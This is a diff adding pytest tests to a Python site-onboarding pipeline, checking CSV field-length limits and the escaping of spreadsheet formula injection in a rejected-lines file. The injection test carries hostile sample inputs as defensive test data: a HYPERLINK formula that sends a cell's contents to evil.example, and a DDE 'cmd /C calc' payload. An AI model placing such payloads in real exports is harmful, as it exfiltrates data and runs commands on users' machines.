@@ -16,6 +16,7 @@ from pipeline.db import get_engine, session_scope
 from pipeline.distribution import SiteRecord
 from pipeline.models import Site, SiteName, SiteState
 from pipeline.onboarding import (
+    MAX_FIELD,
     Line,
     Onboarding,
     Options,
@@ -428,3 +429,69 @@ def test_a_batch_is_published_signed_above_what_redis_holds(
         assert record.signed == statement and record.matches(statement)
     alpha = SignedSite.from_json(redis_client.hget(f"{PREFIX}:signed", "alpha.example.com") or b"")
     assert alpha.version > ahead.version
+
+
+def _rejected_rows(path: Path) -> dict[int, tuple[str, str]]:
+    with path.open(newline="", encoding="utf-8") as f:
+        rows = list(csv.reader(f))
+    assert rows[0] == ["line", "content", "reason"]
+    return {int(row[0]): (row[1], row[2]) for row in rows[1:]}
+
+
+def test_the_rejected_file_is_safe_to_open_in_a_spreadsheet(engine: Engine, tmp_path: Path) -> None:
+    text = (
+        "fine.example.com\n"
+        '=HYPERLINK("http://evil.example/?"&A1),http://10.0.0.1\n'
+        "+1-555-0100\n"
+        "-x.example.com\n"
+        "@SUM(A1:A9)\n"
+        "\"\tcmd|' /C calc'!A0\"\n"
+        '"\r=1+1"\n'
+    )
+    rejected = tmp_path / "in.csv.rejected.csv"
+    summary = onboard(engine, text, rejected=rejected)
+    assert (summary.added, summary.rejected) == (1, 6)
+    rows = _rejected_rows(rejected)
+    assert sorted(rows) == [2, 3, 4, 5, 6, 7]
+    for content, reason in rows.values():
+        # OWASP: a cell a spreadsheet would evaluate starts with a quote instead.
+        for cell in (content, reason):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert rows[2][0] == '\'=HYPERLINK("http://evil.example/?"&A1),http://10.0.0.1'
+    assert rows[3][0] == "'+1-555-0100"
+    assert rows[4][0] == "'-x.example.com"
+    assert rows[5][0] == "'@SUM(A1:A9)"
+    # The file is otherwise the input: every cell quoted, the text kept after the quote.
+    assert rejected.read_text(encoding="utf-8").splitlines()[0] == '"line","content","reason"'
+
+
+@pytest.mark.parametrize("size", [MAX_FIELD + 1, 200 * 1024])
+def test_an_overlong_field_rejects_its_line_and_the_run_goes_on(
+    engine: Engine, database_url: str, tmp_path: Path, size: int
+) -> None:
+    # Over 128 KiB the csv module itself refuses the line (csv.Error); over MAX_FIELD we do.
+    text = f"a.example.com\nb.example.com,http://10.0.0.1/{'x' * size}\nc.example.com\n"
+    rejected = tmp_path / "in.csv.rejected.csv"
+    summary = onboard(engine, text, rejected=rejected)
+    assert (summary.read, summary.added, summary.rejected) == (3, 2, 1)
+    assert set(stored(database_url)) == {"a.example.com", "c.example.com"}
+    ((content, reason),) = _rejected_rows(rejected).values()
+    assert list(_rejected_rows(rejected)) == [2]
+    assert "\n" not in reason
+    if size > 128 * 1024:
+        assert reason == "not a CSV line (field larger than field limit (131072))"
+    else:
+        upstream = len("http://10.0.0.1/") + size
+        assert reason == f"column 2 is {upstream:,} characters long; at most {MAX_FIELD:,}"
+    # The line is quoted, not copied whole: enough to find it.
+    assert content.startswith("b.example.com,http://10.0.0.1/xxx")
+    assert content.endswith(f"({len(text.splitlines()[1]):,} characters in all)")
+    assert len(content) < 1100
+
+
+def test_a_line_csv_cannot_read_is_rejected_with_the_reason() -> None:
+    # A bare carriage return inside a line (stdin is read with newline translation off).
+    bad, good = list(read_lines(["a.example.com\rb,c\n", "d.example.com\n"]))
+    assert (bad.number, good.number) == (1, 2)
+    assert bad.problem is not None and bad.problem.startswith("not a CSV line (new-line")
+    assert good.problem is None and good.cells == ("d.example.com",)
